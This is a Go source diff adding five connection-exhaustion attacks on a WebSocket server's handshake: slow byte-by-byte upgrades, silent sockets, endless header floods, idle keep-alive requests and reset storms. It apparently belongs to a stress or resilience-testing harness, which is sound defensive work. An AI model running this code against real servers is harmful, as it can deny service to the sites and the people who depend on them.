@@ -1,0 +1,124 @@
+package attack
+
+import (
+	"bytes"
+	"fmt"
+	"io"
+	"time"
+)
+
+// handshakeAttacks are those of clients that are no WebSockets yet.
+func handshakeAttacks() []Attack {
+	return []Attack{
+		{Name: "slow-handshake", What: "Clients send the upgrade request a byte a second.", run: slowHandshake},
+		{Name: "silent", What: "Clients connect and send nothing at all.", run: silent},
+		{Name: "header-flood", What: "Clients send header lines without an end.", run: headerFlood},
+		{Name: "idle-http", What: "Clients ask for a page and keep the connection open.", run: idleHTTP},
+		{Name: "reset-storm", What: "Clients upgrade and cut the connection by RST, again and again.", run: resetStorm},
+	}
+}
+
+// stalled waits until the server ends a connection, and counts what it says.
+func (c *conn) stalled() error {
+	n, err := io.Copy(io.Discard, c.Raw)
+	c.a.received.Add(n)
+	c.drop()
+	if err == nil {
+		err = io.EOF
+	}
+	return err
+}
+
+func slowHandshake(a *attacker) {
+	request := a.target.Request(a.room, false)
+	a.each(func(i int) {
+		a.again(func() error {
+			c, err := a.dial(i)
+			if err != nil {
+				return err
+			}
+			defer c.drop()
+			for at := range request {
+				if _, err := c.Write(request[at : at+1]); err != nil {
+					return err
+				}
+				if err := a.pause(time.Second); err != nil {
+					return err
+				}
+			}
+			return nil
+		})
+	})
+}
+
+func silent(a *attacker) {
+	a.each(func(i int) {
+		a.again(func() error {
+			c, err := a.dial(i)
+			if err != nil {
+				return err
+			}
+			return c.stalled()
+		})
+	})
+}
+
+func headerFlood(a *attacker) {
+	request, _ := bytes.CutSuffix(a.target.Request(a.room, false), []byte("\r\n"))
+	lines := bytes.Repeat([]byte("X-Attack: "+string(bytes.Repeat([]byte{'a'}, 90))+"\r\n"), 160)
+	a.each(func(i int) {
+		a.again(func() error {
+			c, err := a.dial(i)
+			if err != nil {
+				return err
+			}
+			defer c.drop()
+			for _, err = c.Write(request); err == nil; _, err = c.Write(lines) {
+			}
+			return err
+		})
+	})
+}
+
+func idleHTTP(a *attacker) {
+	request := fmt.Appendf(nil, "GET / HTTP/1.1\r\nHost: %s\r\nConnection: keep-alive\r\n\r\n", a.target.Host())
+	a.each(func(i int) {
+		a.again(func() error {
+			c, err := a.dial(i)
+			if err != nil {
+				return err
+			}
+			if _, err := c.Write(request); err != nil {
+				return err
+			}
+			return c.stalled()
+		})
+	})
+}
+
+func resetStorm(a *attacker) {
+	request := a.target.Request(a.room, false)
+	a.each(func(i int) {
+		round := i
+		a.again(func() error {
+			round++
+			if round%2 == 0 { // in the middle of the handshake
+				c, err := a.dial(i)
+				if err != nil {
+					return err
+				}
+				defer c.drop()
+				if _, err = c.Write(request); err != nil {
+					return err
+				}
+				return a.pause(5 * time.Millisecond)
+			}
+			c, err := a.join(i)
+			if err != nil {
+				return err
+			}
+			c.drop()
+			return a.pause(5 * time.Millisecond)
+		})
+	})
+}
